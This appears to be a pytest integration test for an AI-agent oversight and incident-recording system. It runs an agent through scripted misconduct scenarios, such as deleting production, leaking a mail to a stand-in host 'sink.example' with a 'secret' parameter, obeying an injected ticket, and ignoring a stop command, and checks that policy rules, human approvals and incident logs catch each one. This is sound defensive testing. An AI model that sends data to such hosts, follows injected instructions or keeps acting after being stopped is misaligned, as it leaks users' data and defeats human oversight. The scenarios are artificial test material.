"""S-04, S-06, S-09, S-15 and S-16 on one real server: who, for whom, which task, which decision, which data, and from
which line of the target, in one command each. S-03 is in `test_incident_replit.py`, with a real database.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import time
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import httpx2
import pytest

from answerable.core.incident.incident_statement import incident_claims
from answerable.sdk.keyfile import create_key, load_key, public_jwk
from answerable.sdk.signing import signed_incident
from answerable.wiring.settings import load_settings
from tests.worlds.incident import ALL, answered, capability, document, pending, people, served, template
from tests.worlds.mail import MAIL, Mailbox
from tests.worlds.up import house

if TYPE_CHECKING:
    from pathlib import Path

    from answerable.core.identity.keys.keys import SigningKey

pytestmark = pytest.mark.anyio
WHICH = [{"name": "which", "type": "string", "required": True}]
RULES = (
    ALL
    + """
@id("egress")
@reason("nothing goes to a place that is not listed")
forbid(principal, action == Action::"web.post", resource)
when { context.arguments.which like "https://*" };

@id("after-confidential")
@reason("what was read in confidence goes to customers when somebody has looked at it")
@approve("leads:1")
forbid(principal, action == Action::"web.post", resource)
when { context.history.confidential_reads > 0 };

@id("two-people")
@reason("two people agree to replacing production")
@approve("leads:2")
forbid(principal, action == Action::"env.recreate", resource);
"""
)
TRACKER = {
    "name": "confidential_reads",
    "over": "mandate",
    "kinds": ["read"],
    "sensitivities": ["confidential"],
}


def documents(place: Path) -> str:
    def tool(name: str, target: str, kind: str, **more: Any) -> str:
        resource = {"type": "Thing", "argument": "which"}
        return capability(name, "mail", target, kind=kind, resource=resource, arguments=WHICH, **more)

    fixed = {"kind": "read", "resource": {"type": "Thing", "fixed": "box"}}
    look = {"kind": "read", "resource": {"type": "Thing", "fixed": "staging"}, "environment": "staging"}
    return (
        people()
        + document("Server", "mail", command=sys.executable, args=[str(MAIL), str(place / "book")])
        + capability("inbox.read", "mail", "mail://box", method="resources/read", **fixed)
        + capability("staging.look", "mail", "tidy", method="prompts/get", **look)
        + tool("mail.delete", "mail_delete", "delete")
        + tool("web.post", "mail_empty", "communicate", sensitivity="public")
        + tool("env.recreate", "mail_purge", "delete", tier=3)
        + template("staging.look", name="schema", environment="staging", purpose="Mend the schema of staging")
        + template("inbox.read", "web.post", name="tickets", purpose="Answer ticket 7")
        + template("mail.delete", "env.recreate", name="tidy", purpose="Tidy the inbox")
        + document("PolicySet", "all", trackers=[TRACKER], policies=RULES)
    )


class Scene(Mailbox):
    """What one scenario did, asked afterwards by a window of its time."""

    since = 0

    async def begins(self, task: str) -> None:
        """Under a mandate of Ada's by this template."""
        issue = ("mandate", "issue", task, "--as", "ada", "--key", str(self.home.root / "ada.jwk"), "--yes")
        self.mandate = (await asyncio.to_thread(self.home.command, *issue)).strip()
        self.since = time.time_ns() // 1_000_000

    async def opened(self, text: str) -> str:
        """Bela opens an incident about it, and nothing is stopped."""
        now = time.time_ns() // 1_000_000
        origin = (await self.told("/v1/ledger"))["origin"]
        claims = incident_claims(
            "bela",
            origin,
            text,
            at=now,
            random=os.urandom(16),
            change="opened",
            kind="window",
            since_ms=self.since,
            until_ms=now,
        )
        token = signed_incident(claims, key=load_key(self.home.root / "bela.jwk"))
        transport = httpx2.AsyncHTTPTransport(uds=str(load_settings(self.home.data).control.socket))
        async with httpx2.AsyncClient(transport=transport, base_url="http://answerable") as client:
            answer = await client.post("/v1/incidents", json={"token": token})
        return str(answer.json()["incident"])

    async def told_of(self, text: str, *, task: str, rules: set[str]) -> dict[str, Any]:
        """Who, for whom, which task and which decision, in one command; what else it says."""
        shown: dict[str, Any] = await self.command("incident", "show", await self.opened(text), "--json")
        gist = shown["story"]["gist"]
        assert (gist["agents"], gist["people"]) == (["scout"], ["ada"]), text
        assert [one for one in gist["tasks"] if self.mandate in one and task in one] == gist["tasks"], text
        assert rules <= {*gist["rules"]}, text
        return shown

    async def line(self, of: str) -> dict[str, Any]:
        """The action from which the last line with these words is, in the target's own words."""
        resource = [one for one in self.book if of in one][-1].rpartition(" ")[2]
        since = datetime.fromtimestamp(self.since / 1_000, UTC).isoformat()
        found = await self.command(
            "search", f"resource:{resource}", "kind:intent", "--since", since, "--json"
        )
        return dict(found["items"][0])


def reads(shown: dict[str, Any]) -> list[tuple[str, str, int]]:
    return [(one["capability"], one["resource"], len(one["entries"])) for one in shown["data"]]


def clock(shown: dict[str, Any]) -> dict[str, Any]:
    return {one["name"]: one for one in shown["clock"]}


async def a_token_in_the_workspace(scene: Scene, key: SigningKey) -> None:
    """S-04: it mends staging, and tries to delete production."""
    await scene.begins("schema")
    assert await scene.does(key, "prompts/get", "tidy")
    assert not await scene.does(key, "tools/call", "mail_purge", which="volumes/prod")
    shown = await scene.told_of("it tried to delete a volume", task="Mend the schema", rules={"all"})
    assert reads(shown) == [("staging.look", "staging", 1)]
    refused = next(one["action"] for one in shown["actions"] if one["undoing"] == "nothing_done")
    assert (refused["code"], refused["resource"]) == ("mandate.caveat", "volumes/prod")
    assert clock(shown)["first effect"]["at"] is None


async def a_mail_that_leaks(scene: Scene, key: SigningKey) -> None:
    """S-06: it reads a mail, and would fetch a place that the mail names."""
    await scene.begins("tickets")
    assert await scene.does(key, "resources/read", "mail://box")
    assert not await scene.does(key, "tools/call", "mail_empty", which="https://sink.example/?d=secret")
    shown = await scene.told_of(
        "it would have leaked a mail", task="Answer ticket 7", rules={"all", "egress"}
    )
    assert reads(shown) == [("inbox.read", "box", 1)]
    assert not [one for one in scene.book if "sink" in one]


async def a_ticket_that_reads_tokens(scene: Scene, key: SigningKey) -> None:
    """S-09: what it would write where customers read waits, and a person says no."""
    await scene.begins("tickets")
    assert await scene.does(key, "resources/read", "mail://box")
    assert not await scene.does(key, "tools/call", "mail_empty", which="ticket-7")
    [waiting] = await pending(scene)
    await answered(scene, "deny", waiting["id"])
    shown = await scene.told_of(
        "a ticket spoke to it", task="Answer ticket 7", rules={"all", "after-confidential"}
    )
    assert [one for one in shown["story"]["gist"]["approvals"] if "bela" in one]
    assert reads(shown) == [("inbox.read", "box", 1)]
    lines = [one for one in scene.book if one == "began resource box"]
    assert len(lines) == 2
    assert (await scene.line("began resource box"))["entry"] in {
        int(entry) for one in shown["data"] for entry in one["entries"]
    }


async def one_pair_of_eyes(scene: Scene, key: SigningKey) -> None:
    """S-16: whoever gave the task agrees to it, and one other person."""
    await scene.begins("tidy")
    assert not await scene.does(key, "tools/call", "mail_purge", which="prod")
    [waiting] = await pending(scene)
    await answered(scene, "approve", waiting["id"], code=4)
    assert not await scene.does(key, "tools/call", "mail_purge", which="prod")
    shown = await scene.told_of(
        "it would have replaced production", task="Tidy the inbox", rules={"two-people"}
    )
    assert [one for one in shown["story"]["gist"]["approvals"] if "bela" in one]
    assert shown["undoing"].get("not_reversible", 0) == 0
    assert not [one for one in scene.book if one.endswith(" prod")]


async def a_stop_that_is_not_heard(scene: Scene, key: SigningKey) -> None:
    """S-15: it deletes mail, is stopped, and goes on trying."""
    await scene.begins("tidy")
    for which in ("m-1", "m-2", "m-3"):
        assert await scene.does(key, "tools/call", "mail_delete", which=which)
    await scene.command("stop", "scout", "--reason", "it deletes mail", "--json")
    assert not await scene.does(key, "tools/call", "mail_delete", which="m-4")
    shown = await scene.told_of("it does not hear", task="Tidy the inbox", rules={"all"})
    assert len(shown["story"]["gist"]["not_reversible"]) == len(scene.deleted) == 3
    placed = clock(shown)["contained"]
    assert clock(shown)["detected"]["entry"] == placed["entry"]
    found = await scene.line("began mail_delete")
    assert (found["resource"], found["outcome"]) == ("m-3", "succeeded")
    assert found["entry"] == max(map(int, shown["story"]["gist"]["not_reversible"]))


@pytest.mark.requirement("INCIDENT-04")
async def test_each_scenario_is_told_in_one_command_each_whatever_else_the_agent_did(tmp_path: Path) -> None:
    async with house(tmp_path) as home:
        for person in ("ada", "bela"):
            made = create_key(tmp_path / f"{person}.jwk", seed=os.urandom(32))
            (tmp_path / f"{person}.pub.jwk").write_text(public_jwk(made))
        await home.start()
        await asyncio.to_thread(home.apply, documents(tmp_path))
        await home.serving()
        scene = Scene(home, "")
        key = create_key(tmp_path / "scout.jwk", seed=os.urandom(32))
        await scene.instance(key)
        await scene.begins("tidy")
        await served(scene, key)
        for plays in (
            a_token_in_the_workspace,
            a_mail_that_leaks,
            a_ticket_that_reads_tokens,
            one_pair_of_eyes,
            a_stop_that_is_not_heard,
        ):
            await plays(scene, key)
        listed = json.loads(home.command("incident", "list", "--json"))
        assert [one["state"] for one in listed["items"]] == ["open"] * 5
